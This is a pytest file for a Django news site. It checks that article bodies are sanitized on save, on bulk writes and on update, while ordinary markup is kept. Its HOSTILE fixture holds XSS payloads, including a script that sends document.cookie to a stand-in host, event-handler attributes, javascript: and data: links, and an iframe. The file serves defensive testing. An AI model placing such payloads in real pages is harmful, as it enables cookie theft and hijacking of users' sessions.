"""Article bodies are sanitized on every way in: admin form, save(), bulk writes."""

import re

import pytest

from articles.models import Article, sanitize_body
from tests.factories import make_article, make_section

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<p onclick="steal()">Council news.</p>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<img src="x" onerror="alert(1)">'
    '<p><a href="javascript:alert(1)">click</a> '
    '<a href="JaVaScRiPt:alert(2)">again</a> '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'
    "</p>"
    '<iframe src="https://evil.example/"></iframe>'
)

ORDINARY = (
    "<p>The council met on <strong>Tuesday</strong> and <em>voted</em>.</p>"
    "<h2>What was decided</h2>"
    '<p>Read <a href="https://www.example.ie/plan">the plan</a> or '
    '<a href="mailto:desk@example.ie">write to us</a>.</p>'
    "<blockquote><p>We will build it, said the mayor.</p></blockquote>"
    "<ul><li><p>A new pier</p></li><li><p>A cycle path</p></li></ul>"
    "<ol><li><p>First</p></li></ol>"
)


def assert_harmless(html):
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<iframe" not in lowered
    assert "<img" not in lowered
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered)  # no on*= attribute
    assert "javascript:" not in lowered
    assert "data:" not in lowered
    assert "Council news." in html


def test_sanitize_body_keeps_ordinary_markup():
    """Paragraphs, headings, https and mailto links, quotes and lists survive."""
    assert sanitize_body(ORDINARY) == ORDINARY


def test_save_sanitizes_the_body():
    """A plain save() (shell, loaders, scripts) stores no script or handler."""
    article = make_article(body=HOSTILE + ORDINARY)
    article.refresh_from_db()
    assert_harmless(article.body)
    assert article.body.endswith(ORDINARY)
    assert "<a>click</a>" in article.body


def test_bulk_create_bulk_update_and_update_sanitize_the_body():
    """Bulk writes, which skip save(), sanitize the body as well."""
    section = make_section()
    created = Article.objects.bulk_create(
        [Article(title="Bulk", slug="bulk", section=section, body=HOSTILE)]
    )
    assert_harmless(Article.objects.get(pk=created[0].pk).body)
    article = Article.objects.get(pk=created[0].pk)
    article.body = HOSTILE
    Article.objects.bulk_update([article], ["body"])
    assert_harmless(Article.objects.get(pk=article.pk).body)
    Article.objects.filter(pk=article.pk).update(body=HOSTILE)
    assert_harmless(Article.objects.get(pk=article.pk).body)


def test_empty_editor_content_is_stored_as_empty():
    """The editor's lone empty paragraph does not count as a body."""
    article = make_article(body="<p></p>")
    article.refresh_from_db()
    assert article.body == ""
